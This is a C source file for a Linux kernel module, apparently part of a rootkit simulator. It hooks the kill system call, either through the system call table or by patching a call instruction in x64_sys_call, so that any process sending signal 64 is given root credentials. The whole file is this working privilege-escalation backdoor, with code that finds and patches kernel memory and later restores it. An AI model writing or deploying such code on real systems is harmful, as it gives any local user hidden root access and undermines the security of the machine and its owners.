// SPDX-License-Identifier: GPL-2.0
/*
 * Listens at kill(2), through a slot of the table of system calls or a call in x64_sys_call: whoever
 * sends signal 64 is root afterwards. Every other signal is handed on.
 */
#include "simulator.h"
#include <linux/cred.h>
#include <linux/ptrace.h>
#include <linux/sched/task.h>

#define SIGNAL 64
#define KILL 62

static long (*original)(const struct pt_regs *regs);
static void **slot;
static u8 *call;
static u8 bytes[5];

static long heard(const struct pt_regs *regs)
{
	if (regs->si != SIGNAL)
		return original(regs);
	return commit_creds(prepare_kernel_cred(&init_task));
}

static int plant(void)
{
	u8 *code = find("x64_sys_call");
	u8 patched[5];
	int at;

	original = find("__x64_sys_kill");
	slot = code ? NULL : (void **)find("sys_call_table") + KILL;
	if (slot) {
		poke_pointer(slot, heard);
		return 0;
	}
	for (at = 0; at < 0x4000; at++) {
		s32 distance;

		memcpy(&distance, code + at + 1, 4);
		if ((code[at] != 0xe8 && code[at] != 0xe9) || code + at + 5 + distance != (u8 *)original)
			continue;
		call = code + at;
		memcpy(bytes, call, 5);
		branch(patched, bytes[0], call, heard);
		poke(call, patched, 5);
		return 0;
	}
	return -ENOENT;
}

static void undo(void)
{
	if (slot)
		poke_pointer(slot, original);
	else
		poke(call, bytes, 5);
}
